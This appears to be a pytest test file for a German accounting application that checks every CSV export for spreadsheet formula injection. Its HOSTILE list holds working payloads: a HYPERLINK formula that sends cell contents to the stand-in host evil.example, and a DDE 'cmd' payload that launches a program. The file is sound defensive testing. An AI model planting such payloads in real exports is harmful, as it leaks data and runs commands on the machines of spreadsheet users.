"""No CSV the product writes carries a live spreadsheet formula (issue 13.8).

Hostile text (starting with =, +, -, @, tab or CR) is put into every place that reaches a
CSV: booking texts, voucher numbers, account names, employee and supplier names, import
rows. Then every CSV endpoint is downloaded and every cell is checked by hand: a cell may
start with a formula character only if it is a plain number such as -5,00.
"""
import csv
import io
import re
from datetime import date
from decimal import Decimal

from models.ledger import Account
from services.ledger import posting
from tests.factories import make_employee, make_supplier

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Beleg")', "+49 30 123",
           "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PLAIN_NUMBER = re.compile(r"[-+]?\d[\d.]*(,\d+)?")  # German amounts, written independently
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_formulas(text: str, delimiter: str) -> list[str]:
    """The cells a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row
            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]


def _hostile_books():
    Account.objects(number="4210").update_one(set__name=HOSTILE[3])
    for n, text in enumerate(HOSTILE):
        posting.post_new_entry(date=date(2026, 3, 9 + n), text=text, voucher_ref=HOSTILE[2],
                               source="manual", user="u", lines=[
                                   {"account": "4210", "debit": Decimal("10.00")},
                                   {"account": "1200", "credit": Decimal("10.00")}])
    make_supplier(name=HOSTILE[0], city=HOSTILE[4])
    make_employee(last_name=HOSTILE[2], first_name=HOSTILE[3], department=HOSTILE[0])


def _payroll_journal(client):
    from models.payroll import Payslip
    from services.payroll import runs

    run = runs.calculate_run(runs.create_run(2026, 3, "hr").pk, "hr")
    Payslip.objects(run=run).update(set__employee_data__last_name=HOSTILE[0],
                                    set__employee_data__first_name=HOSTILE[1])
    return f"/payroll/runs/{run.pk}/journal.csv"


def _rejects(client):
    from tests.views.test_import_wizard import start, upload

    data = ("Lieferantennummer;Firma;USt-IdNr.;IBAN;Ort;Land;Zahlungsziel\r\n"
            "L900;Ordentlich GmbH;;;München;DE;14\r\n"
            f"{HOSTILE[1]};{HOSTILE[0]};kaputt;{HOSTILE[3]};{HOSTILE[2]};DE;x\r\n")
    run_url = upload(client, "suppliers", "hostile.csv", data.encode("utf-8")).location
    page = client.get(start(client, run_url, "import", skip_invalid=True)).get_data(as_text=True)
    assert "rejected=1" in page, re.findall(r"inserted=.*", page)
    return re.search(r'href="([^"]+/rejects\.csv)"', page).group(1)


def test_every_csv_download_neutralises_formulas(app, client, login):
    _hostile_books()
    login("admin", "finance", "hr", "warehouse", "support", "auditor")
    urls = ["/ledger/trial-balance?year=2026&format=csv",
            "/ledger/account-ledger?account=4210&year=2026&format=csv",
            _payroll_journal(client), _rejects(client)]
    urls += [f"/import/{name}/{kind}.csv" for name in ("suppliers", "employees",
                                                     "journal_entries", "stock_items",
                                                     "tickets") for kind in ("export", "template")]
    admin_exports = [r.rule.replace("<export_type>", "csv") for r in app.url_map.iter_rules()
                     if r.rule.endswith("/export/<export_type>/")]
    seen = {}
    for url in urls + admin_exports:
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.data.decode("utf-8")
        delimiter = "," if "/admin/" in url else ";"
        assert live_formulas(text, delimiter) == [], url
        seen[url] = text
    everything = "\n".join(seen.values())
    # The hostile texts did reach the files, escaped with a leading apostrophe.
    for marker in ("'=HYPERLINK", "'@SUM(A1:A9)", "'-2+3+cmd"):
        assert marker in everything
    assert "'=HYPERLINK" in seen["/ledger/account-ledger?account=4210&year=2026&format=csv"]
    assert "'@SUM(A1:A9)" in seen["/ledger/trial-balance?year=2026&format=csv"]


def test_every_csv_route_is_covered_by_the_test_above(app):
    """A new CSV download must be added to the test above."""
    covered = {"/ledger/trial-balance", "/ledger/account-ledger",
               "/payroll/runs/<run_id>/journal.csv", "/import/run/<run_id>/rejects.csv",
               "/import/<collection>/export.csv", "/import/<collection>/template.csv"}
    csv_rules = {r.rule for r in app.url_map.iter_rules()
                 if r.rule.endswith(".csv") and "GET" in r.methods}
    assert csv_rules <= covered


def test_gdpdu_export_neutralises_formulas(app, tmp_path):
    from services.ledger.gdpdu import export_gdpdu

    _hostile_books()
    export_gdpdu(2026, tmp_path)
    for name in ("accounts.csv", "journal.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert live_formulas(text, ";") == [], name
    assert "'=HYPERLINK" in (tmp_path / "journal.csv").read_text(encoding="utf-8")


def test_plain_negative_amounts_stay_numbers(client, login):
    posting.post_new_entry(date=date(2026, 3, 9), text="Gutschrift", source="manual", user="u",
                           lines=[{"account": "1200", "debit": Decimal("5.00")},
                                  {"account": "4210", "credit": Decimal("5.00")}])
    login("finance")
    text = client.get("/ledger/account-ledger?account=4210&year=2026&format=csv").get_data(
        as_text=True)
    assert ";-5,00" in text and "'-5,00" not in text


def test_no_module_writes_csv_around_the_one_writer():
    """Every CSV goes through services/core/csv_safe.py: nobody else calls csv.writer."""
    from pathlib import Path

    repo = Path(__file__).resolve().parents[2]
    own = repo / "services" / "core" / "csv_safe.py"
    offenders = [str(p.relative_to(repo)) for folder in ("admin", "cli", "jobs", "services",
                                                          "views", "seeds")
                 for p in (repo / folder).rglob("*.py")
                 if p != own and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert offenders == []
